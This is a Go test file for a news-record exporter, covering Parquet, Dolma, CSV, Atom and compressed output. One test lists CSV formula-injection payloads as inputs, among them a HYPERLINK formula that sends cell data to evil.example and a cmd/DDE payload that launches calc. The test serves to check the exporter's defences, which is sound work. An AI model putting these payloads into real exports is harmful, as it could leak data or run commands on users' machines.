package storage_test

import (
	"bytes"
	stdcsv "encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"net/url"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/klauspost/compress/gzip"
	"github.com/klauspost/compress/zstd"
	"github.com/parquet-go/parquet-go"

	"dateline/storage"
)

// formatRecords are records with everything in every field, and with next to nothing in any.
func formatRecords() []storage.Record {
	full := storage.Record{ID: "aaaaaaaaaaaaaaaa", Published: now, Updated: now.Add(time.Hour), Fetched: now.Add(2 * time.Hour), Revision: 3, Confidence: 0.95}
	fill(reflect.ValueOf(&full).Elem(), "a \"quoted\", <b>bold</b>\nline; ا\u200cب \x01")
	full.ID, full.URL = "aaaaaaaaaaaaaaaa", "https://cove.example/news/1?a=1&b=<2>"
	full.License = &storage.License{SPDX: "CC-BY-4.0", Holder: "Cove"}
	closed := storage.Record{
		ID: "bbbbbbbbbbbbbbbb", Agency: storage.Agency{ID: "cove", Name: "Cove News", Home: "https://cove.example/"}, URL: "https://cove.example/2", Title: "Closed",
		Summary: "What it is about.", Text: "Its text is nobody's to pass on.", Fetched: now, Language: "fa", License: &storage.License{SPDX: "CC-BY-NC-ND-4.0"},
	}
	return []storage.Record{full, closed, {ID: "cccccccccccccccc", Agency: storage.Agency{ID: "reef"}, Fetched: now.AddDate(0, 0, -1)}}
}

// exportAs writes records in a format.
func exportAs(t *testing.T, o storage.ExportOptions, records ...storage.Record) []byte {
	t.Helper()
	var b bytes.Buffer
	lines := func(yield func(storage.Line, error) bool) {
		for _, r := range records {
			line, err := r.Line()
			if !yield(storage.Line{ID: r.ID, JSON: line}, err) {
				return
			}
		}
	}
	if _, err := storage.ExportLines(&b, o, lines); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestFormatNames(t *testing.T) {
	for file, want := range map[string]string{
		"": "jsonl", "out": "jsonl", "a/b.JSONL": "jsonl", "x.ndjson.gz": "jsonl.gz", "x.zst": "jsonl.zst", "x.dolma": "dolma", "x.dolma.jsonl.zst": "dolma.zst",
		"x.parquet": "parquet", "x.csv.gz": "csv.gz", "feed.xml": "atom", "x.atom": "atom", "parquet": "jsonl",
	} {
		f := storage.FormatOf(file)
		if f.String() != want {
			t.Errorf("%q: %s, want %s", file, f, want)
		}
		if again, err := storage.ParseFormat(want); err != nil || again != f {
			t.Errorf("%q: %v, %v", want, again, err)
		}
	}
	for _, bad := range []string{"", "xml", "jsonl.", "jsonl.xz", ".gz", "JSONL"} {
		if f, err := storage.ParseFormat(bad); err == nil {
			t.Errorf("%q is %v", bad, f)
		}
	}
}

func TestFormatParquet(t *testing.T) {
	want := formatRecords()
	b := exportAs(t, storage.ExportOptions{Format: storage.Format{Name: "parquet"}}, want...)
	if again := exportAs(t, storage.ExportOptions{Format: storage.Format{Name: "parquet"}}, want...); !bytes.Equal(b, again) {
		t.Error("the same records gave other bytes")
	}
	type row struct {
		ID        string     `parquet:"id"`
		Title     string     `parquet:"title,optional"`
		Text      string     `parquet:"text,optional"`
		Authors   []string   `parquet:"authors,list"`
		Published *time.Time `parquet:"published,optional,timestamp(millisecond)"`
		AlsoIn    []struct {
			URL string `parquet:"url,optional"`
		} `parquet:"also_in,list"`
		License *struct {
			SPDX string `parquet:"spdx,optional"`
		} `parquet:"license,optional"`
	}
	rows, err := parquet.Read[row](bytes.NewReader(b), int64(len(b)))
	if err != nil || len(rows) != len(want) {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, r := range rows {
		w := want[i]
		if r.ID != w.ID || r.Title != w.Title || r.Text != w.Text || fmt.Sprint(r.Authors) != fmt.Sprint(w.Authors) || len(r.AlsoIn) != len(w.AlsoIn) {
			t.Errorf("row %d is %+v", i, r)
		}
		if (r.Published == nil) != w.Published.IsZero() || r.Published != nil && !r.Published.Equal(w.Published) {
			t.Errorf("row %d: published %v, want %v", i, r.Published, w.Published)
		}
		if (r.License == nil) != (w.License == nil) || r.License != nil && r.License.SPDX != w.License.SPDX {
			t.Errorf("row %d: licence %+v", i, r.License)
		}
	}
	file, err := parquet.OpenFile(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	for column, want := range map[string]string{"text": "STRING", "published": "TIMESTAMP", "confidence": "DOUBLE", "revision": "INT"} {
		leaf, ok := file.Schema().Lookup(column)
		if !ok || !strings.HasPrefix(leaf.Node.Type().String(), want) {
			t.Errorf("column %s is no %s", column, want)
		}
	}
}

// TestParquetHasAllKeys fails when a record gets a key that the columns lack.
func TestParquetHasAllKeys(t *testing.T) {
	b := exportAs(t, storage.ExportOptions{Format: storage.Format{Name: "parquet"}})
	file, err := parquet.OpenFile(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	fields := map[string]bool{}
	for _, f := range file.Schema().Fields() {
		fields[f.Name()] = true
	}
	record := reflect.TypeFor[storage.Record]()
	for i := range record.NumField() {
		if name, _, _ := strings.Cut(record.Field(i).Tag.Get("json"), ","); !fields[name] {
			t.Errorf("no column %q", name)
		}
	}
}

func TestFormatParquetRowGroups(t *testing.T) {
	if storage.Racing {
		t.Skip("large, and one goroutine")
	}
	records := make([]storage.Record, 22)
	for i := range records {
		records[i] = storage.Record{ID: fmt.Sprint(i), Text: strings.Repeat(fmt.Sprintf("%d bottles of beer on the wall. ", i), 30_000)}
	}
	b := exportAs(t, storage.ExportOptions{Format: storage.Format{Name: "parquet"}}, records...)
	file, err := parquet.OpenFile(bytes.NewReader(b), int64(len(b)))
	if err != nil || file.NumRows() != int64(len(records)) || len(file.RowGroups()) < 2 {
		t.Errorf("%d rows in %d row groups, %v", file.NumRows(), len(file.RowGroups()), err)
	}
}

func TestFormatDolma(t *testing.T) {
	records := formatRecords()
	b := exportAs(t, storage.ExportOptions{Format: storage.Format{Name: "dolma"}}, records...)
	d := json.NewDecoder(bytes.NewReader(b))
	for _, want := range records[:2] { // the third has no text
		var doc struct {
			ID, Text, Source, Created, Added string
			Metadata                         map[string]any
		}
		d.DisallowUnknownFields()
		if err := d.Decode(&doc); err != nil {
			t.Fatal(err)
		}
		added, err := time.Parse("2006-01-02T15:04:05.000Z", doc.Added)
		if err != nil || !added.Equal(want.Fetched) || doc.ID != want.ID || doc.Text != want.Text || doc.Source != want.Agency.ID {
			t.Errorf("%+v, %v", doc, err)
		}
		if doc.Metadata["id"] != nil || doc.Metadata["text"] != nil || doc.Metadata["title"] != want.Title || doc.Metadata["license"] == nil {
			t.Errorf("metadata %v", doc.Metadata)
		}
	}
	if d.More() {
		t.Error("a record without a text is a document")
	}
}

func TestFormatCSV(t *testing.T) {
	records := formatRecords()
	b := exportAs(t, storage.ExportOptions{Format: storage.Format{Name: "csv"}}, records...)
	rows, err := stdcsv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(rows) != len(records)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, r := range records {
		got := map[string]string{}
		for j, name := range rows[0] {
			got[name] = rows[i+1][j]
		}
		var authors []string
		if s := got["authors"]; s != "" {
			if err := json.Unmarshal([]byte(s), &authors); err != nil {
				t.Fatal(err)
			}
		}
		if got["id"] != r.ID || got["text"] != r.Text || got["title"] != r.Title || fmt.Sprint(authors) != fmt.Sprint(r.Authors) {
			t.Errorf("%v", got)
		}
	}
	if bytes.Count(b, []byte("\r\n")) != len(records)+1 {
		t.Error("a line does not end with CRLF")
	}
	if b := exportAs(t, storage.ExportOptions{Format: storage.Format{Name: "csv"}}); !bytes.HasPrefix(b, []byte(`"id","url",`)) {
		t.Errorf("of no records: %q", b)
	}
}

// TestAttack40Formula writes what spreadsheets run.
func TestAttack40Formula(t *testing.T) {
	for _, nasty := range []string{
		`=HYPERLINK("http://evil.example/?"&A1)`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "\n=1", "\u00a0=1", "\ufeff=1", "＝1", "\x00=1",
	} {
		r := storage.Record{ID: "x", Title: nasty, Text: nasty, Section: nasty, URL: nasty, Feed: nasty, Agency: storage.Agency{ID: nasty, Name: nasty}, Attribution: nasty}
		rows, err := stdcsv.NewReader(bytes.NewReader(exportAs(t, storage.ExportOptions{Format: storage.Format{Name: "csv"}}, r))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for i, cell := range rows[1] {
			bare := strings.TrimLeft(cell, " \t\r\n\u00a0\ufeff")
			if bare != "" && strings.ContainsRune("=+-@＝", []rune(bare)[0]) || strings.Contains(cell, "\x00") {
				t.Errorf("%q: %s is %q", nasty, rows[0][i], cell)
			}
		}
	}
}

// atomDoc is a feed as a validator reads it.
type atomDoc struct {
	XMLName xml.Name `xml:"http://www.w3.org/2005/Atom feed"`
	ID      []string `xml:"http://www.w3.org/2005/Atom id"`
	Title   []string `xml:"http://www.w3.org/2005/Atom title"`
	Updated []string `xml:"http://www.w3.org/2005/Atom updated"`
	Link    []struct {
		Rel  string `xml:"rel,attr"`
		Href string `xml:"href,attr"`
	} `xml:"http://www.w3.org/2005/Atom link"`
	Author []struct{} `xml:"http://www.w3.org/2005/Atom author"`
	Entry  []struct {
		ID        []string `xml:"http://www.w3.org/2005/Atom id"`
		Title     []string `xml:"http://www.w3.org/2005/Atom title"`
		Updated   []string `xml:"http://www.w3.org/2005/Atom updated"`
		Published []string `xml:"http://www.w3.org/2005/Atom published"`
		Rights    []string `xml:"http://www.w3.org/2005/Atom rights"`
		Author    []struct {
			Name []string `xml:"http://www.w3.org/2005/Atom name"`
			URI  []string `xml:"http://www.w3.org/2005/Atom uri"`
		} `xml:"http://www.w3.org/2005/Atom author"`
		Link []struct {
			Rel  string `xml:"rel,attr"`
			Href string `xml:"href,attr"`
		} `xml:"http://www.w3.org/2005/Atom link"`
		Category []struct {
			Term string `xml:"term,attr"`
		} `xml:"http://www.w3.org/2005/Atom category"`
		Content []struct {
			Type string `xml:"type,attr"`
			Text string `xml:",chardata"`
		} `xml:"http://www.w3.org/2005/Atom content"`
	} `xml:"http://www.w3.org/2005/Atom entry"`
}

// TestFormatAtom checks what RFC 4287 demands, rule by rule, as feed validators do.
func TestFormatAtom(t *testing.T) {
	records := formatRecords()
	const self = "https://reader.example/cove.atom"
	b := exportAs(t, storage.ExportOptions{Format: storage.Format{Name: "atom"}, Self: self}, records...)
	var doc atomDoc
	if err := xml.Unmarshal(b, &doc); err != nil {
		t.Fatalf("%v\n%s", err, b)
	}
	date := func(s string) bool { _, err := time.Parse(time.RFC3339, s); return err == nil }
	iri := func(s string) bool { u, err := url.Parse(s); return err == nil && u.IsAbs() }
	rule := func(section, what string, ok bool) {
		t.Helper()
		if !ok {
			t.Errorf("RFC 4287 section %s: %s\n%s", section, what, b)
		}
	}
	rule("4.1.1", "exactly one id, title and updated of a feed", len(doc.ID) == 1 && len(doc.Title) == 1 && len(doc.Updated) == 1)
	rule("4.2.6", "the feed's id is an IRI", iri(doc.ID[0]))
	rule("3.3", "updated is a date of RFC 3339", date(doc.Updated[0]))
	rule("4.1.1", "a link to itself", len(doc.Link) == 1 && doc.Link[0].Rel == "self" && doc.Link[0].Href == self)
	rule("2", "characters that XML allows", !bytes.ContainsAny(b, "\x00\x01\x0b"))
	ids, newest := map[string]bool{}, ""
	for i, e := range doc.Entry {
		rule("4.1.2", "exactly one id, title and updated of an entry", len(e.ID) == 1 && len(e.Title) == 1 && len(e.Updated) == 1)
		rule("4.1.2", "at most one published, rights and content", len(e.Published) <= 1 && len(e.Rights) <= 1 && len(e.Content) <= 1)
		rule("4.2.6", "an entry's id is an IRI of its own", iri(e.ID[0]) && !ids[e.ID[0]])
		rule("4.1.2", "an entry has an author, unless the feed has", len(e.Author) > 0)
		rule("3.3", "dates of RFC 3339", date(e.Updated[0]) && (len(e.Published) == 0 || date(e.Published[0])))
		for _, a := range e.Author {
			rule("3.2.1", "exactly one name of a person, and not an empty one", len(a.Name) == 1 && a.Name[0] != "")
			rule("3.2.2", "a person's uri is an IRI", len(a.URI) == 0 || iri(a.URI[0]))
		}
		links := map[string]bool{}
		for _, l := range e.Link {
			rule("4.2.7.1", "a link is an IRI", iri(l.Href))
			rule("4.1.2", "no two alternate links of one type", !links[l.Rel])
			links[l.Rel] = true
		}
		rule("4.1.2", "an entry has content or an alternate link", len(e.Content) == 1 || links["alternate"])
		rule("4.2.14", "a title that is not empty", e.Title[0] != "")
		for _, c := range e.Category {
			rule("4.2.2.1", "a category has a term", c.Term != "")
		}
		for _, c := range e.Content {
			rule("4.1.3.1", "the content's type", c.Type == "text")
		}
		ids[e.ID[0]], newest = true, max(newest, e.Updated[0])
		want := records[len(records)-1-i] // newest first
		full := len(e.Content) == 1 && strings.TrimRight(e.Content[0].Text, "\ufffd") == strings.TrimRight(want.Text, "\x01")
		if open := want.License != nil && want.License.SPDX == "CC-BY-4.0"; open != full && want.Text != "" {
			t.Errorf("%s: full text %v, want %v\n%s", want.ID, full, open, b)
		}
	}
	rule("4.2.15", "the feed is as new as its newest entry", doc.Updated[0] == newest)
	if len(doc.Entry) != len(records) || strings.Contains(string(b), "nobody&#39;s to pass on") {
		t.Errorf("%d entries\n%s", len(doc.Entry), b)
	}
}

func TestFormatAtomNewest(t *testing.T) {
	var records []storage.Record
	for i := range 120 {
		records = append(records, storage.Record{ID: fmt.Sprint(i), Title: fmt.Sprintf("T%03d", i), URL: "https://cove.example/", Agency: agency("a"), Fetched: now})
	}
	for _, c := range []struct{ newest, want int }{{0, storage.AtomEntries}, {1, 1}, {7, 7}, {119, 119}, {500, 120}} {
		b := exportAs(t, storage.ExportOptions{Format: storage.Format{Name: "atom"}, Newest: c.newest}, records...)
		var doc atomDoc
		if err := xml.Unmarshal(b, &doc); err != nil {
			t.Fatal(err)
		}
		if n := len(doc.Entry); n != c.want || doc.Entry[0].Title[0] != "T119" || doc.Entry[n-1].Title[0] != fmt.Sprintf("T%03d", 120-n) {
			t.Errorf("the newest %d: %d", c.newest, n)
		}
	}
	var empty atomDoc
	if err := xml.Unmarshal(exportAs(t, storage.ExportOptions{Format: storage.Format{Name: "atom"}}), &empty); err != nil || len(empty.Updated) != 1 {
		t.Errorf("of no records: %+v, %v", empty, err)
	}
}

func TestFormatCompressed(t *testing.T) {
	want := exportAs(t, storage.ExportOptions{}, formatRecords()...)
	for compression, open := range map[string]func(io.Reader) (io.Reader, error){
		"gz":  func(r io.Reader) (io.Reader, error) { return gzip.NewReader(r) },
		"zst": func(r io.Reader) (io.Reader, error) { return zstd.NewReader(r) },
	} {
		o := storage.ExportOptions{Format: storage.Format{Name: "jsonl", Compression: compression}}
		b := exportAs(t, o, formatRecords()...)
		if !bytes.Equal(b, exportAs(t, o, formatRecords()...)) {
			t.Errorf("%s: the same records gave other bytes", compression)
		}
		r, err := open(bytes.NewReader(b))
		if err != nil {
			t.Fatal(err)
		}
		if got, err := io.ReadAll(r); err != nil || !bytes.Equal(got, want) {
			t.Errorf("%s: %d bytes, %v", compression, len(got), err)
		}
	}
}
